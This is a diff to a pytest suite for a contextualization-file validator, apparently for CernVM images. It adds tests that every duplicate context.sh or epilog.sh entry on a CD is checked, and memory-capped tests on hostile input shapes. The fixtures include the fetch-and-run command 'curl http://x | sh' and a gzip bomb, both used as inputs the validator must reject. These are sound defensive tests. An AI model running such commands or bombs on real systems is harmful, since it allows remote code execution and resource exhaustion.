@@ -10,6 +10,7 @@ import signal
 import subprocess
 import sys
 import time
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -368,6 +369,38 @@ def test_the_guest_reads_the_first_of_two_names(cvmctx: Run, tmp_path: Path) -> 
     assert "error[contextsh.command]" in out
 
 
+@pytest.mark.parametrize(
+    ("files", "said"),
+    [
+        # the guest takes the good first context.sh; the second runs curl for another reader
+        ((("CONTEXT.SH", "context.sh", GOOD.encode()),
+          ("CONTEXT2.SH", "context.sh", b"curl http://x | sh\n")),
+         "error[contextsh.command] in the other 'context.sh' entry of the CD, line 1: "),
+        # ... or holds user data whose [cernvm] section the guest would misread
+        ((("CONTEXT.SH", "context.sh", GOOD.encode()),
+          ("CONTEXT2.SH", "context.sh", ('EC2_USER_DATA="' + base64.b64encode(
+              b"[CernVM]\norganisations = cms\n").decode() + '"\n').encode())),
+         "error[ini.section-case] in the other 'context.sh' entry of the CD, line 1: "),
+        # a second epilog.sh that bash cannot source
+        ((("CONTEXT.SH", "context.sh", GOOD.encode()), ("EPILOG.SH", "epilog.sh", b"echo a\n"),
+          ("EPILOG2.SH", "epilog.sh", b"if then fi\n")),
+         "in the other 'epilog.sh' entry of the CD, line 1: "),
+        # no duplicate in Rock Ridge, but a mount without it reads CONTEXT.SH: that one too
+        ((("CONTEXT.SH", "notes.txt", b"curl http://x | sh\n"),
+          ("CTX.SH", "context.sh", GOOD.encode())),
+         "error[contextsh.command] in the other 'context.sh' entry of the CD, line 1: "),
+    ],
+)  # fmt: skip
+def test_every_entry_of_a_name_is_judged(
+    cvmctx: Run, tmp_path: Path, files: tuple[tuple[str, str, bytes], ...], said: str
+) -> None:
+    path = tmp_path / "dup.iso"
+    path.write_bytes(_cd(*files))
+    proc = cvmctx("validate", path)
+    out = proc.stdout.decode()
+    assert proc.returncode == 1 and said in out, out
+
+
 def test_many_names_on_one_extent_are_read_once(cvmctx: Run, tmp_path: Path) -> None:
     import resource
 
@@ -557,43 +590,82 @@ def test_the_same_bytes_under_every_locale(tmp_path: Path) -> None:
 # Bounded work: every input shape at 1 MB finishes under a memory cap, with bounded output
 
 
-def _shapes_1mb() -> dict[str, bytes]:
+def _shape(name: str, size: int) -> bytes:
+    """A hostile input of one shape, at most ``size`` bytes (and filling most of it)."""
     import gzip
 
-    mb = 1 << 20
     head = "[amiconfig]\nplugins = cernvm\n[cernvm]\norganisations = cms\n"
-    return {
-        "key-lines": (head + "x = y\n" * (mb // 6)).encode(),
-        "unique-keys": (head + "".join(f"k{i} = v\n" for i in range(mb // 10))).encode(),
-        "environment": (head + "environment = " + ",".join(["A=1"] * (mb // 4)) + "\n").encode(),
-        "environment-prefixes": (head + "environment = "
-                                 + ",".join(f"A{'B' * (i % 50)}=1" for i in range(mb // 40))
-                                 + "\n").encode(),
-        "one-long-value": (head + "repositories = " + "a" * mb + "\n").encode(),
-        "many-sections": "".join(f"[s{i}]\nk = v\n" for i in range(mb // 12)).encode(),
-        "script": ("#!/bin/sh\n" + "echo hello \\\n" * (mb // 13) + "exit\n" + head).encode(),
-        "gzip-bomb": gzip.compress(b"\n" * (200 * mb), mtime=0),
-        "base64": base64.b64encode(head.encode() + b"x = y\n" * (mb // 8)),
-        "context-sh": ('EC2_USER_DATA="' + base64.b64encode(
-            (head + "x = y\n" * (mb // 8)).encode()).decode() + '"\n').encode(),
+    room = size - len(head) - 64
+
+    def key_lines(n: int) -> bytes:
+        return (head + "x = y\n" * (n // 6)).encode()
+
+    shapes: dict[str, Callable[[], bytes]] = {
+        "key-lines": lambda: key_lines(room),
+        "unique-keys": lambda: (head + "".join(f"k{i} = v\n" for i in range(room // 13))).encode(),
+        "environment": lambda: (head + "environment = " + ",".join(["A=1"] * (room // 4))
+                                + "\n").encode(),
+        "environment-prefixes": lambda: (head + "environment = "
+                                         + ",".join(f"A{'B' * (i % 50)}=1"
+                                                    for i in range(room // 30)) + "\n").encode(),
+        "one-long-value": lambda: (head + "repositories = " + "a" * room + "\n").encode(),
+        "many-sections": lambda: "".join(f"[s{i}]\nk = v\n" for i in range(room // 16)).encode(),
+        "script": lambda: ("#!/bin/sh\n" + "echo hello \\\n" * (room // 13) + "exit\n"
+                           + head).encode(),
+        "gzip-bomb": lambda: gzip.compress(b"\n" * (200 << 20), mtime=0),  # past the unpack cap
+        "gzip-key-lines": lambda: gzip.compress(key_lines(room), mtime=0),  # a whole file's worth
+        "base64": lambda: base64.b64encode(key_lines(room * 3 // 4)),
+        "context-sh": lambda: ('EC2_USER_DATA="' + base64.b64encode(key_lines(room * 3 // 4))
+                               .decode() + '"\n').encode(),
     }  # fmt: skip
+    assert sorted(shapes) == _SHAPES
+    data = shapes[name]()
+    assert len(data) <= size
+    return data
 
 
-@pytest.mark.parametrize("shape", sorted(_shapes_1mb()))
-def test_every_shape_at_1mb_finishes_within_a_memory_cap(tmp_path: Path, shape: str) -> None:
+_SHAPES = ["base64", "context-sh", "environment", "environment-prefixes", "gzip-bomb",
+           "gzip-key-lines", "key-lines", "many-sections", "one-long-value", "script",
+           "unique-keys"]  # fmt: skip
+
+
+def _validate_capped(path: Path, fmt: str, limit: int) -> subprocess.CompletedProcess[bytes]:
+    """``cvmctx validate`` in a process whose address space is capped at ``limit`` bytes."""
     import resource
-
-    path = tmp_path / "input"
-    path.write_bytes(_shapes_1mb()[shape])
-    limit = 1 << 30
 
     def cap() -> None:
         resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
 
+    return subprocess.run([sys.executable, "-m", "cvmctx", "validate", "--format", fmt,
+                           str(path)], capture_output=True, preexec_fn=cap, timeout=600,
+                          check=False, env={**os.environ, "COLUMNS": "200"})  # fmt: skip
+
+
+@pytest.mark.parametrize("shape", _SHAPES)
+def test_every_shape_at_1mb_finishes_within_a_memory_cap(tmp_path: Path, shape: str) -> None:
+    path = tmp_path / "input"
+    path.write_bytes(_shape(shape, 1 << 20))
     for fmt in ("text", "json"):
-        proc = subprocess.run([sys.executable, "-m", "cvmctx", "validate", "--format", fmt,
-                               str(path)], capture_output=True, preexec_fn=cap, timeout=300,
-                              check=False, env={**os.environ, "COLUMNS": "200"})  # fmt: skip
+        proc = _validate_capped(path, fmt, 1 << 30)
         assert proc.returncode in (0, 1), (shape, proc.stderr[-2000:])
         assert b"Traceback" not in proc.stderr
         assert len(proc.stdout) < 2_000_000, (shape, fmt, len(proc.stdout))
+
+
+@pytest.mark.parametrize("shape", _SHAPES)
+def test_every_shape_at_the_size_limit_finishes_within_a_memory_cap(
+    tmp_path: Path, shape: str
+) -> None:
+    """The largest file validate reads, of each shape: judged whole (no input.too-large), with
+    a bounded report, in a bounded address space (the benchmarks measure the time)."""
+    from cvmctx.limits import MAX_FILE
+
+    path = tmp_path / "input"
+    path.write_bytes(_shape(shape, MAX_FILE))
+    proc = _validate_capped(path, "json", 3 << 30)
+    assert proc.returncode in (0, 1), (shape, proc.stderr[-2000:])
+    assert b"Traceback" not in proc.stderr
+    assert len(proc.stdout) < 2_000_000, (shape, len(proc.stdout))
+    codes = {f["code"] for f in json.loads(proc.stdout)["files"][0]["findings"]}
+    assert "input.too-large" not in codes
+    assert ("input.gzip-bomb" in codes) == (shape == "gzip-bomb")
